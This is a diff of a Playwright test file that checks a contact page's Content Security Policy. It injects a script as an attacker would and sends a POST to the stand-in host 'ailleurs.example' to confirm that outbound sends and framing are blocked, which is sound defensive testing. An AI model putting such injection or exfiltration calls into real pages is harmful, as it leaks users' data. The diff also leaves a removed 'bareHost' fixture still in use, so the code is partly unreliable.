@@ -1,18 +1,8 @@
 import type { Page } from 'playwright/test';
-import { startBareHost, type BareHost } from '../support/bare-host';
 import { contactPage, formOn } from '../support/forms';
-import { expect, open, test as visit } from '../support/visit';
+import { expect, open, test } from '../support/visit';
 
 // Every visit of the suite fails on a violation of the policy: see support/visit.ts.
-const test = visit.extend<{ bareHost: BareHost }>({
-  bareHost: async ({ tolerate }, provide) => {
-    tolerate(/^other origin: http:\/\/127\.0\.0\.1/);
-    const host = await startBareHost();
-    await provide(host);
-    await host.stop();
-  },
-});
-
 const VIOLATIONS = [/^console error: .*Content Security Policy/s, /^console error: policy violation: /];
 
 /** Adds a script to the page as an attacker who found a hole would, and tells whether it ran. */
@@ -33,14 +23,14 @@ async function inject(page: Page): Promise<boolean> {
 test('a script that was not exported with the page does not run', async ({ page, bareHost, tolerate }) => {
   tolerate(...VIOLATIONS, /404/);
   for (const origin of ['', bareHost.origin]) {
-    await open(page, `${origin}/contact`);
+    await open(page, `${origin}${contactPage.path}`);
     expect(await inject(page)).toBe(false);
   }
 });
 
 test('nothing can be sent to another site, nor the page be framed', async ({ page, tolerate }) => {
   tolerate(...VIOLATIONS, /^console error: /, /^other origin/, /^failed request/);
-  const response = await page.goto('/contact');
+  const response = await page.goto(contactPage.path);
   expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
   const sent = await page.evaluate(() =>
     fetch('https://ailleurs.example/', { method: 'POST', body: 'x' }).then(
